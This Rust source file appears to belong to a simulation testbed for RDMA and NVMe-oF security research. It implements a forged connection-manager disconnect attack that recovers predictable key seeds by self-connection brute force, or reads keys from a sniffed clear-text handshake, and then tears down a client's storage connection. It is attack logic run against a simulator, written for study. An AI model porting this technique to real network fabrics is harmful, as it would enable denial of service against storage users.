//! Forged connection-manager disconnects.
//!
//! Connection keys are `seed ^ counter`, so two keys drawn back to back
//! differ only in the low bits that the counter increment flips. A local
//! user who connects to itself therefore only has to enumerate one key and a
//! handful of difference patterns, and recovers the seed on the way.

use crate::cm::{CmEventKind, CmKind, CmMessage, ConnId};
use crate::fabric::Actor;
use crate::harness::testbed::{CLIENT_ADDR, TARGET_ADDR};
use crate::harness::{Testbed, ThreatModel};
use crate::nvmeof::Command;
use crate::rnic::{split_datagram, QpKind, Qpn, CM_QPN};
use crate::sim::{Mail, World};
use crate::wire::{Opcode, PortAddr};
use crate::NodeId;

use super::nvme::client_disconnected;
use super::{guess_qpn, AttackError, AttackId, AttackOutcome, AttackerKnowledge, Effect};

/// Forged requests sent per scheduling batch, one per tick.
const BATCH: u32 = 4096;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct KeyProbe {
    /// Keys of the attacker's own connection, `(initiator, target)`.
    pub keys: (u32, u32),
    /// Counter value the initiator key was drawn at, as estimated.
    pub counter: u32,
    /// `keys.0 ^ counter`: the generator seed if the estimate is right.
    pub seed: u32,
    /// Queue pairs the attacker allocated, excluded from later guesses.
    pub own_qpns: [Qpn; 3],
    /// Forged requests plus connection setups.
    pub cost: u64,
}

fn mask(world: &World) -> u32 {
    world.config().widths.key_mask()
}

fn cm_events(world: &mut World, actor: &Actor) -> Vec<(u64, ConnId, CmEventKind)> {
    world
        .take_mail_timed(actor.id)
        .into_iter()
        .filter_map(|(t, m)| match m {
            Mail::Cm(ev) => Some((t, ev.conn, ev.kind)),
            _ => None,
        })
        .collect()
}

/// Sends forged disconnect requests for `keys(i)`, `i` in `range`, one per
/// tick from the UD endpoint `ud`, and settles.
fn send_batch(
    world: &mut World,
    actor: &Actor,
    ud: Qpn,
    dst: PortAddr,
    qpn: Qpn,
    range: std::ops::Range<u32>,
    keys: impl Fn(u32) -> (u32, u32),
) -> u64 {
    let t0 = world.now();
    for (j, i) in range.clone().enumerate() {
        let (ik, tk) = keys(i);
        let msg = CmMessage::control(CmKind::DisconnectReq, qpn, ik, tk, Vec::new());
        let bytes = msg.encode().expect("control messages encode");
        world
            .node_mut(actor.node)
            .rnic
            .post_datagram(ud, dst, CM_QPN, &bytes, t0 + j as u64)
            .expect("UD endpoint owned by the attacker");
    }
    world.run_until_idle(2 * BATCH as u64 + 1000);
    range.len() as u64
}

/// Self-connects twice on `node`, then brute-forces the keys of its own
/// connection by sending forged disconnects to itself. The connection
/// dropping is the oracle, and the arrival time identifies the probe.
pub fn probe_cm_keys(world: &mut World, actor: &Actor, node: NodeId) -> Result<KeyProbe, AttackError> {
    let blocked = |e: crate::rnic::RnicError| AttackError::Blocked(e.to_string());
    let addr = world.fabric.home_address(node).expect("attached node");
    let latency = world.fabric.config().default_latency;
    let key_mask = mask(world);
    let bits = world.config().widths.key_bits;

    let rnic = &mut world.node_mut(node).rnic;
    let seed_qpn = rnic.qpn_generator().static_seed();
    let qmask = world.config().widths.qpn_space() - 1;
    let rnic = &mut world.node_mut(node).rnic;
    let ud = rnic.alloc_qp(actor, QpKind::Ud).map_err(blocked)?;
    let qa = rnic.alloc_qp(actor, QpKind::Rc).map_err(blocked)?;
    let qb = rnic.alloc_qp(actor, QpKind::Rc).map_err(blocked)?;
    // Every QP handed out before ours belongs to a connection that drew one key.
    let mut n = ud.wrapping_sub(seed_qpn) & qmask;
    let mut cost = 0u64;

    world.node_mut(node).cm.listen(actor.id);
    // Each handshake leg is one loopback trip; stay well inside the connect timeout.
    let step = 2 * latency + 2;
    let handshake = |world: &mut World, accept: bool| -> Option<ConnId> {
        let now = world.now();
        let init = world.node_mut(node).cm.connect(actor.id, qa, 0, addr, Vec::new(), now);
        world.advance(step);
        let req = cm_events(world, actor)
            .into_iter()
            .find(|(_, _, k)| matches!(k, CmEventKind::ConnectRequest { .. }))?
            .1;
        if !accept {
            world.node_mut(node).cm.reject(req);
            world.advance(step);
            world.take_mail(actor.id);
            return None;
        }
        world.node_mut(node).cm.accept(req, qb, 0, Vec::new());
        world.advance(step);
        world.node_mut(node).cm.ready(init, Vec::new());
        world.advance(step);
        world.take_mail(actor.id);
        Some(init)
    };
    // An odd counter would make the two keys differ in several bits; burn
    // one key with a rejected connection first.
    if n % 2 == 1 {
        handshake(world, false);
        n += 1;
        cost += 1;
    }
    let conn = handshake(world, true).ok_or_else(|| AttackError::Blocked("self-connect failed".into()))?;
    cost += 1;

    let space = 1u64 << bits;
    // n ^ (n + 1) has the form 2^(t+1) - 1; the expected t = 0 comes first.
    for t in 0..8u32 {
        let diff = ((1u64 << (t + 1)) - 1) as u32 & key_mask;
        let mut base = 0u64;
        while base < space {
            let end = (base + BATCH as u64).min(space) as u32;
            let t0 = world.now();
            cost += send_batch(world, actor, ud, addr, qa, base as u32..end, |i| (i, i ^ diff));
            let hit = cm_events(world, actor)
                .into_iter()
                .find(|(_, c, k)| *c == conn && *k == CmEventKind::Disconnected);
            if let Some((at, _, _)) = hit {
                let ik = base as u32 + (at - t0 - latency) as u32;
                let keys = (ik, ik ^ diff);
                return Ok(KeyProbe {
                    keys,
                    counter: n,
                    seed: (ik ^ n) & key_mask,
                    own_qpns: [ud, qa, qb],
                    cost,
                });
            }
            base = end as u64;
        }
        if diff == key_mask {
            break;
        }
    }
    Err(AttackError::MultiBitRetry)
}

/// Disconnects the client's NVMe-oF connection with forged CM requests.
///
/// A local user recovers the CM key seed of the client host, derives the
/// client's own key and enumerates the target's. A remote administrator reads
/// both keys from the clear-text handshake it observed.
pub fn spoof_disconnect(tb: &mut Testbed, model: ThreatModel, attack: bool) -> AttackOutcome {
    let mut cost = 1;
    if attack {
        cost = match model {
            ThreatModel::Tlu => local_disconnect(tb),
            ThreatModel::Tra => remote_disconnect(tb),
        };
        tb.settle();
    }
    let client = tb.client;
    tb.run(
        client,
        vec![Command::Write {
            lba: 9,
            data: b"after".to_vec(),
        }],
    );
    let hit = client_disconnected(tb);
    AttackOutcome::new(AttackId::Disconnect, tb, model, hit.then_some(Effect::Disconnection), cost)
}

fn local_disconnect(tb: &mut Testbed) -> u64 {
    let node = tb.client_node;
    let actor = tb.attacker(ThreatModel::Tlu, node);
    let probe = match probe_cm_keys(&mut tb.world, &actor, node) {
        Ok(p) => p,
        Err(_) => return 1u64 << (tb.world.config().widths.key_bits + 3),
    };
    let mut cost = probe.cost;
    let knowledge = AttackerKnowledge::for_testbed(tb);
    let seed_qpn = tb.world.node(node).rnic.qpn_generator().static_seed();
    let qmask = tb.world.config().widths.qpn_space() - 1;
    let key_mask = mask(&tb.world);
    let cands: Vec<Qpn> = guess_qpn(&mut tb.world, &actor, node, &knowledge)
        .into_iter()
        .filter(|q| !probe.own_qpns.contains(q))
        .collect();
    let Ok(ud) = tb.world.node_mut(node).rnic.alloc_qp(&actor, QpKind::Ud) else {
        return cost;
    };
    let space = 1u64 << tb.world.config().widths.key_bits;
    for victim_qpn in cands {
        // One key was drawn per connection set up before this QP existed.
        let n = victim_qpn.wrapping_sub(seed_qpn) & qmask;
        let ik = (probe.seed ^ n) & key_mask;
        let mut base = 0u64;
        while base < space {
            let end = (base + BATCH as u64).min(space) as u32;
            cost += send_batch(&mut tb.world, &actor, ud, CLIENT_ADDR, victim_qpn, base as u32..end, |tk| (ik, tk));
            if client_disconnected(tb) {
                return cost;
            }
            base = end as u64;
        }
    }
    tb.world.take_mail(actor.id);
    cost
}

fn remote_disconnect(tb: &mut Testbed) -> u64 {
    let actor = tb.attacker(ThreatModel::Tra, tb.remote_node);
    let handshake: Vec<(PortAddr, PortAddr, CmMessage)> = tb
        .world
        .fabric
        .captured()
        .iter()
        .filter(|c| !c.encrypted && c.packet.transport.opcode() == Opcode::CmMad)
        .filter_map(|c| {
            let (_, body) = split_datagram(&c.packet.payload)?;
            let msg = CmMessage::decode(body).ok()?;
            Some((c.packet.route.src_addr, c.packet.route.dst_addr, msg))
        })
        .collect();
    let req = handshake
        .iter()
        .find(|(s, d, m)| *s == CLIENT_ADDR && *d == TARGET_ADDR && m.kind == CmKind::ConnectReq);
    let Some((_, _, req)) = req else {
        return 1;
    };
    let rep = handshake.iter().find(|(s, d, m)| {
        *s == TARGET_ADDR && *d == CLIENT_ADDR && m.kind == CmKind::ConnectRep && m.initiator_key == req.initiator_key
    });
    let Some((_, _, rep)) = rep else {
        return 1;
    };
    let remote = tb.remote_node;
    let Ok(ud) = tb.world.node_mut(remote).rnic.alloc_qp(&actor, QpKind::Ud) else {
        return 1;
    };
    let (qpn, ik, tk) = (req.qpn, req.initiator_key, rep.target_key);
    send_batch(&mut tb.world, &actor, ud, CLIENT_ADDR, qpn, 0..1, |_| (ik, tk))
}
